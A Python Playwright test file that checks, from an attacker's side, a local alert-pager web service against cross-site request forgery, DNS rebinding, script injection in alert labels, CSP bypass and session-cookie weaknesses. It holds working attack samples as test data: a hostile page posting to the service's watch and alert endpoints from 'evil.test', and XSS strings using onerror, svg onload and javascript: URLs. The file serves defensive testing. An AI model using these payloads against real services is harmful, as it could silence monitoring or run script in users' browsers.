"""From the attacker's side with a real Chromium: pages of other sites, moved names, hostile labels, and the login."""

from __future__ import annotations

import json

import pytest
from lab.attacker import CONTROL, READ, STRANGER, refused, site, write_secrets
from lab.bridge import Bridge, webhook
from lab.browser import HOST, chromium, driver, tab
from lab.programs import wait_for
from playwright.sync_api import expect

pytestmark = pytest.mark.system

EVIL = "evil.test"
ATTACK = """<!doctype html>
<p id="done">not yet</p>
<form id="form" method="post" action="%(url)s/api/v1/watch" target="frame" enctype="text/plain">
  <input name='{"on": false, "by": "' value='"}'></form>
<iframe name="frame" id="frame" src="%(url)s/"></iframe>
<img src="%(url)s/api/v1/status">
<script src="%(url)s/api/v1/status"></script>
<script type="module">
const told = {};
const attempt = async (name, work) => { try { told[name] = String(await work()); } catch { told[name] = "refused"; } };
const body = JSON.stringify({ on: false, by: "evil" });
const plain = { method: "POST", body, credentials: "include", headers: { "Content-Type": "text/plain" } };
await attempt("no-cors", async () => (await fetch("%(url)s/api/v1/watch", { ...plain, mode: "no-cors" })).type);
await attempt("cors", async () => (await fetch("%(url)s/api/v1/watch", plain)).status);
await attempt("json", async () => (await fetch("%(url)s/api/v1/watch", { ...plain, headers: { "Content-Type": "application/json" } })).status);
await attempt("read", async () => (await fetch("%(url)s/api/v1/status")).text());
await attempt("alert", async () => (await fetch("%(url)s/alert", { ...plain, body: '{"alerts": [{"labels": {"alertname": "Evil"}}]}', mode: "no-cors" })).type);
await attempt("beacon", async () => navigator.sendBeacon("%(url)s/alert", '{"alerts": [{"labels": {"alertname": "Evil"}}]}'));
await attempt("socket", () => new Promise((yes, no) => {
  const socket = new WebSocket("%(socket)s/api/v1/stream");
  socket.onmessage = ({ data }) => yes(data);
  socket.onclose = no;
}));
document.getElementById("form").submit();
window.told = told;
document.getElementById("done").textContent = "done";
</script>"""  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    with driver() as playwright, chromium(playwright, "--host-resolver-rules=MAP * 127.0.0.1") as running:
        yield running


@pytest.fixture
def bridge(tmp_path):
    with Bridge(tmp_path / "bridge") as running:
        yield running


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", HOST])
@pytest.mark.parametrize("evil", [EVIL, "localhost"])
def test_a_page_of_another_site_changes_nothing_and_learns_nothing(browser, bridge, name, evil):
    """`localhost` on another port is the same site to a browser, and another origin."""
    url = f"http://{name}:{bridge.port}"
    page_text = ATTACK % {"url": url, "socket": url.replace("http", "ws", 1)}
    with site(page_text) as port, tab(browser, recorded=False) as seen:
        page = seen.page
        page.goto(f"http://{evil}:{port}/")
        expect(page.locator("#done")).to_have_text("done")
        told = page.evaluate("window.told")
        assert {name: told[name] for name in ("cors", "json", "read", "socket")} == {
            "cors": "refused",
            "json": "refused",
            "read": "refused",
            "socket": "refused",
        }
        wait_for(lambda: refused(bridge, "origin") >= 8, "all that it sent is refused, the form last")
        assert page.frame("frame").locator("#headline").count() == 0, "it is in no frame"
    status = bridge.status()
    assert status["watch"]["on"] is True
    assert status["firing"] == []
    assert status["players"] == [player for player in status["players"] if player["kind"] != "browser"]


def test_a_link_of_another_site_opens_the_page(browser, bridge):
    link = f'<!doctype html><a id="link" href="http://{HOST}:{bridge.port}/">the pager</a>'
    with site(link) as port, tab(browser, recorded=False) as seen:
        seen.page.goto(f"http://{EVIL}:{port}/")
        seen.page.click("#link")
        expect(seen.page.locator("#link")).to_have_text("Connected")
        expect(seen.page.locator("#headline")).to_have_text("Nothing is firing.")


def test_a_name_that_was_moved_here_shows_nothing(browser, bridge):
    """DNS rebinding: to the browser this is the attacker's own origin, with a policy of the attacker's."""
    with tab(browser, bypass_csp=True) as seen:
        answer = seen.page.goto(f"http://{EVIL}:{bridge.port}/")
        assert answer.status == 403
        found = seen.page.evaluate(
            """async () => {
              const read = await fetch("/api/v1/status");
              const done = await fetch("/api/v1/watch", { method: "POST", body: '{"on": false}' });
              return [read.status, done.status];
            }"""
        )
        assert found == [403, 403]
    assert bridge.status()["watch"]["on"] is True


HOSTILE = """<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>"><svg/onload=window.hacked=1>{{7*7}}"""


def test_what_a_label_holds_is_text_and_never_markup(browser, bridge):
    labels = {
        name: HOSTILE + name for name in ("alertname", "service", "instance", "job", "namespace", "team")
    } | {"severity": "critical", HOSTILE: HOSTILE}
    alert = {
        "status": "firing",
        "labels": labels,
        "annotations": {
            "summary": HOSTILE,
            "description": HOSTILE,
            "runbook_url": "javascript:window.hacked=1",
        },
        "generatorURL": "javascript:window.hacked=1",
        "fingerprint": "hostile",
    }
    assert bridge.post("/alert", webhook(alert)) == (200, {"ok": True})
    taken = {"fingerprint": "hostile", "by": HOSTILE, "why": HOSTILE}
    assert bridge.post("/api/v1/ack", taken)[0] == 200
    with tab(browser) as seen:
        seen.page.goto(f"http://{HOST}:{bridge.port}/")
        row = seen.page.locator(".alert")
        expect(row.locator(".name")).to_have_text(HOSTILE + "alertname")
        expect(row.locator(".summary")).to_have_text(HOSTILE)
        expect(row.locator(".taken")).to_contain_text(HOSTILE)
        expect(seen.page.locator("#who-rows")).to_contain_text(HOSTILE)
        assert seen.page.evaluate("window.hacked") is None
        assert seen.page.locator("main img, main script, main iframe, #view-now svg").count() == 0
        hrefs = seen.page.eval_on_selector_all("a", "found => found.map((one) => one.protocol)")
        assert set(hrefs) <= {"http:", "https:"}
        assert seen.problems == []


def test_the_policy_stops_what_would_get_in_all_the_same(browser, bridge):
    """As if there were a hole in the page: a script put into it does not run, and nothing is sent elsewhere."""
    with site("somewhere else") as port, tab(browser, recorded=False) as seen:
        seen.page.goto(f"http://{HOST}:{bridge.port}/")
        expect(seen.page.locator("#link")).to_have_text("Connected")
        found = seen.page.evaluate(
            """async (elsewhere) => {
              document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.hacked=1">');
              const script = document.createElement("script");
              script.textContent = "window.hacked=1";
              document.body.append(script);
              const out = (work) => work().then(() => "sent", () => "stopped");
              const socket = () => new Promise((yes, no) => {
                const it = new WebSocket(`ws://${elsewhere}/`);
                it.onopen = yes;
                it.onerror = no;
              });
              return [await out(() => fetch(`http://${elsewhere}/`, { mode: "no-cors" })), await out(socket)];
            }""",
            f"{EVIL}:{port}",
        )
        assert found == ["stopped", "stopped"]
        assert seen.page.evaluate("window.hacked") is None
        assert any("Content Security Policy" in problem for problem in seen.problems)


# The login.


@pytest.fixture
def guarded(tmp_path):
    """A bridge with tokens, in whose eyes the browser of `far` comes over the network."""
    with Bridge(tmp_path / "bridge", env=write_secrets(tmp_path / "secrets")) as running:
        yield running


@pytest.fixture
def far(browser, guarded):
    with tab(browser, extra_http_headers=STRANGER) as seen:
        seen.page.goto(f"http://{HOST}:{guarded.port}/")
        yield seen


def log_in(page, token):
    """With the keyboard alone: the field has the focus."""
    expect(page.locator("#token")).to_be_focused()
    page.keyboard.type(token)
    page.keyboard.press("Enter")


def test_whoever_logs_in_sees_and_whoever_logs_out_does_not(far, guarded):
    page = far.page
    expect(page.get_by_role("heading", name="Log in")).to_be_visible()
    expect(page.locator(".alert")).to_have_count(0)
    log_in(page, "a-wrong-token")
    expect(page.locator("#login-answer")).to_contain_text("Not logged in: this token allows nothing here")
    expect(page.locator("#token")).to_have_value("")
    log_in(page, CONTROL)
    expect(page.locator("#link")).to_have_text("Connected", timeout=30_000)
    expect(page.locator("#login")).to_be_hidden()
    [cookie] = far.page.context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["name"]) == (True, "Strict", "pager-session")
    assert page.evaluate("document.cookie") == ""
    assert CONTROL not in json.dumps(page.evaluate("[{...localStorage}, {...sessionStorage}]"))

    page.get_by_role("button", name="Play", exact=False).click()
    expect(page.locator(".alert")).to_contain_text("SingingPagerTest")
    page.reload()
    expect(page.locator("#link")).to_have_text("Connected", timeout=30_000)
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_role("heading", name="Log in")).to_be_visible()
    assert page.evaluate("async () => (await fetch('/api/v1/status')).status") == 401
    assert CONTROL not in guarded.program.log


def test_whoever_may_only_read_is_told_so_and_can_log_in_for_more(far):
    page = far.page
    log_in(page, READ)
    expect(page.locator("#link")).to_have_text("Connected", timeout=30_000)
    page.get_by_role("button", name="Play", exact=False).click()
    expect(page.locator("#test-answer")).to_contain_text("needs the right to control")


def test_a_login_that_is_needed_no_longer_goes_away(browser, guarded):
    """On the machine itself nobody is asked."""
    with tab(browser) as seen:
        seen.page.goto(f"http://{HOST}:{guarded.port}/")
        expect(seen.page.locator("#link")).to_have_text("Connected")
        expect(seen.page.locator("#login")).to_be_hidden()
        expect(seen.page.locator("#session")).to_be_hidden()
        assert seen.problems == []


def test_a_page_that_was_open_asks_for_a_login_when_its_token_is_taken_away(far, tmp_path):
    page = far.page
    log_in(page, READ)
    expect(page.locator("#link")).to_have_text("Connected", timeout=30_000)
    (tmp_path / "secrets" / "READ_TOKEN").write_text("another-token-for-reading")
    expect(page.get_by_role("heading", name="Log in")).to_be_visible(timeout=30_000)
